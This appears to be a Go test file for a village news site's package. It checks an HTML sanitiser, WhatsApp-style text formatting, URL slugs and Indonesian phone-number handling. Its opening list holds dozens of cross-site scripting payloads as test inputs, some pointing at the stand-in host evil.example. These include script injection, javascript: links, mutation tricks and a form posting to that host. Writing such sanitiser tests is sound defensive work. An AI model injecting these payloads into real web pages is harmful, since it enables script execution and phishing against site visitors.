package news

import (
	"encoding/json"
	"strings"
	"testing"
)

// attacks are texts that try to do something in the reader's browser.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<p onclick="alert(1)">x</p>`, `<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="//evil.example/">x</a>`, `<a href="/\evil.example">x</a>`,
	`<a href="https://desa.id@evil.example/">x</a>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<style>@import 'https://evil.example/x.css';</style>`, `<p style="background:url(javascript:alert(1))">x</p>`, `<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x.swf"></object><embed src="x.swf">`, `<form action="https://evil.example"><input name=nik><button>Kirim</button></form>`,
	`<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<link rel=stylesheet href=//evil.example>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
	`<template><script>alert(1)</script></template>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>x</script>`,
	`"><script>alert(1)</script>`, `<b><p></b><script>alert(1)</script>`, `<table><tr><td><script>alert(1)</script>`, `<p><a href="https://a.example/"onmouseover="alert(1)">x</a>`,
	"<img/src=x\tonerror=alert(1)//", `<ſcript>alert(1)</ſcript>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<textarea><img src=x onerror=alert(1)></textarea>`,
	`<p class="error-summary" id="errors" data-x="1">x</p>`, `<slot name=x><custom-el></custom-el></slot>`,
}

func TestNoTextBecomesCode(t *testing.T) {
	for _, attack := range attacks {
		for name, kept := range map[string]string{"HTML": Sanitise(attack), "typed": HTML(Nodes(attack)), "twice": Sanitise(Sanitise(attack)), "read alone": HTML(Read(attack))} {
			if bad := dangerous(kept); bad != "" {
				t.Errorf("%s %q keeps %q in %q", name, attack, bad, kept)
			}
		}
	}
}

// dangerous is the first element or attribute in a kept text that may not be
// there, judged by the text itself and not by the parser that made it.
func dangerous(kept string) string {
	for rest := kept; ; {
		at := strings.IndexByte(rest, '<')
		if at < 0 {
			return ""
		}
		end := strings.IndexByte(rest[at:], '>')
		if end < 0 {
			return rest[at:]
		}
		tag := rest[at : at+end+1]
		rest = rest[at+end+1:]
		name := strings.Trim(tag, "</>")
		if href, isLink := strings.CutPrefix(name, `a href="`); isLink {
			href, after, _ := strings.Cut(href, `"`)
			if after != ` rel="nofollow noopener"` || !(strings.HasPrefix(href, "https://") || strings.HasPrefix(href, "http://") || strings.HasPrefix(href, "/") ||
				strings.HasPrefix(href, "mailto:") || strings.HasPrefix(href, "tel:")) || strings.HasPrefix(href, "//") || strings.Contains(href, "@evil") || strings.Contains(href, `\`) {
				return tag
			}
			continue
		}
		if !strings.Contains(" p h2 h3 ul ol li blockquote strong em a br ", " "+name+" ") {
			return tag
		}
	}
}

func FuzzNoTextBecomesCode(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, typed string) {
		kept := Sanitise(typed)
		if bad := dangerous(kept); bad != "" {
			t.Errorf("%q keeps %q", typed, bad)
		}
		if again := Sanitise(kept); again != kept {
			t.Errorf("%q is kept as %q, and then as %q", typed, kept, again)
		}
		if bad := dangerous(HTML(Nodes(typed))); bad != "" {
			t.Errorf("%q, typed, keeps %q", typed, bad)
		}
	})
}

func TestWhatIsMeantStays(t *testing.T) {
	for typed, want := range map[string]string{
		`<p>Halo <b>warga</b></p>`:                                     `<p>Halo <strong>warga</strong></p>`,
		`Tanpa paragraf<br>dua baris`:                                  `<p>Tanpa paragraf<br>dua baris</p>`,
		`<div>satu</div><div>dua</div>`:                                `<p>satu</p><p>dua</p>`,
		`<h1>Judul</h1><h4>Kecil</h4>`:                                 `<h2>Judul</h2><h3>Kecil</h3>`,
		`<ul><li><p>satu</p></li><li>dua<ol><li>a</li></ol></li></ul>`: `<ul><li>satu</li><li>dua<ol><li>a</li></ol></li></ul>`,
		`<blockquote>kata <i>beliau</i></blockquote>`:                  `<blockquote><p>kata <em>beliau</em></p></blockquote>`,
		`<a href="https://desa.id/a?b=1&amp;c=2">situs</a>`:            `<p><a href="https://desa.id/a?b=1&amp;c=2" rel="nofollow noopener">situs</a></p>`,
		`<a href="/anggaran/2026">APBDes</a>`:                          `<p><a href="/anggaran/2026" rel="nofollow noopener">APBDes</a></p>`,
		`<p>&lt;script&gt; adalah tulisan</p>`:                         `<p>&lt;script&gt; adalah tulisan</p>`,
		`<p>buka <b>tebal <i>miring</b> lalu</i></p>`:                  `<p>buka <strong>tebal <em>miring</em></strong><em> lalu</em></p>`,
		`<p> </p><p></p>`:                                              ``,
	} {
		if got := Sanitise(typed); got != want {
			t.Errorf("%s\nis  %s\nnot %s", typed, got, want)
		}
	}
}

func TestPeopleWriteAsInWhatsApp(t *testing.T) {
	for typed, want := range map[string]string{
		"Om Swastiastu\n\nKerja bakti *Minggu* pukul _07.00_": "<p>Om Swastiastu</p><p>Kerja bakti <strong>Minggu</strong> pukul <em>07.00</em></p>",
		"Bawa:\n- sapu\n- cangkul\n\n1. kumpul\n2) mulai":     "<p>Bawa:</p><ul><li>sapu</li><li>cangkul</li></ul><ol><li>kumpul</li><li>mulai</li></ol>",
		"# Jadwal\nbaris satu\nbaris dua":                     "<h2>Jadwal</h2><p>baris satu<br>baris dua</p>",
		"> kata beliau\n> begitu":                             "<blockquote><p>kata beliau</p><p>begitu</p></blockquote>",
		"Lihat https://desa.id/a_b_c.":                        `<p>Lihat <a href="https://desa.id/a_b_c" rel="nofollow noopener">https://desa.id/a_b_c</a>.</p>`,
		"[daftar di sini](https://desa.id)":                   `<p><a href="https://desa.id" rel="nofollow noopener">daftar di sini</a></p>`,
		"[curang](javascript:alert)":                          `<p>[curang](javascript:alert)</p>`,
		"2 * 3 * 4 dan nama_berkas_ini":                       `<p>2 * 3 * 4 dan nama_berkas_ini</p>`,
		"<b>bukan tebal</b>":                                  `<p>&lt;b&gt;bukan tebal&lt;/b&gt;</p>`,
		"*Penting*, *semua* hadir":                            `<p><strong>Penting</strong>, <strong>semua</strong> hadir</p>`,
	} {
		if got := HTML(Nodes(typed)); got != want {
			t.Errorf("%q\nis  %s\nnot %s", typed, got, want)
		}
	}
}

func TestWhatWasWrittenCanBeWrittenOn(t *testing.T) {
	for _, typed := range []string{
		"Om Swastiastu\n\nKerja bakti *Minggu* pukul _07.00_", "Bawa:\n\n- sapu\n- cangkul\n\n1. kumpul\n1. mulai", "# Jadwal\n\nbaris satu\nbaris dua\n\n## Lain",
		"> kata beliau\n> begitu", "Lihat https://desa.id/a dan [sini](/anggaran)", "2 < 3 & 4 > 1",
	} {
		if got := Typed(Read(Sanitise(HTML(Nodes(typed))))); got != typed {
			t.Errorf("%q comes back as %q", typed, got)
		}
	}
}

func TestATextTravelsAsData(t *testing.T) {
	sent, err := json.Marshal(Nodes("Baca *ini* di https://desa.id"))
	want := `[{"t":"p","c":["Baca ",{"t":"strong","c":["ini"]}," di ",{"t":"a","href":"https://desa.id","c":["https://desa.id"]}]}]`
	if err != nil || string(sent) != want {
		t.Errorf("%s %v", sent, err)
	}
}

func TestDeepNestingEnds(t *testing.T) {
	for _, tag := range []string{"blockquote", "ul><li", "div", "b", "span"} {
		kept := Sanitise(strings.Repeat("<"+tag+">", 5000) + "isi")
		if !strings.Contains(kept, "isi") || strings.Count(kept, "<") > 60 {
			t.Errorf("%s: %d elements are left", tag, strings.Count(kept, "<"))
		}
	}
}

func TestASlugIsReadable(t *testing.T) {
	for title, want := range map[string]string{
		"Kerja Bakti Banjar Kaja, Minggu!": "kerja-bakti-banjar-kaja-minggu", "Jum’at Bersih 2026": "jumat-bersih-2026", "Café & Résumé": "cafe-resume",
		"ᬩᬮᬶ": "kabar", "": "kabar", "<script>": "script", strings.Repeat("panjang ", 20): "panjang-panjang-panjang-panjang-panjang-panjang-panjang-panjang",
	} {
		if got := Slug(title); got != want {
			t.Errorf("%q is %q, not %q", title, got, want)
		}
	}
	taken := map[string]bool{"a": true, "a-2": true}
	if got := Free("a", func(s string) bool { return taken[s] }); got != "a-3" {
		t.Error(got)
	}
}

func TestNumbersCanBeCalledAndWrittenTo(t *testing.T) {
	for typed, want := range map[string][2]string{
		"0812-3456-7890": {"081234567890", "6281234567890"}, "+62 812 3456 7890": {"+6281234567890", "6281234567890"}, "+62 0812 3456 7890": {"+62081234567890", "6281234567890"},
		"0062812345678": {"0062812345678", "62812345678"}, "(0361) 555 0100": {"03615550100", ""}, "112": {"112", ""}, "+61 412 345 678": {"+61412345678", "61412345678"},
		"0812 6208 1234": {"081262081234", "6281262081234"}, "telepon saja": {"", ""}, "": {"", ""}, "08123456789012345": {"", ""},
	} {
		if got := [2]string{Dialled(typed), WhatsApp(typed)}; got != want {
			t.Errorf("%q is %q, not %q", typed, got, want)
		}
	}
}
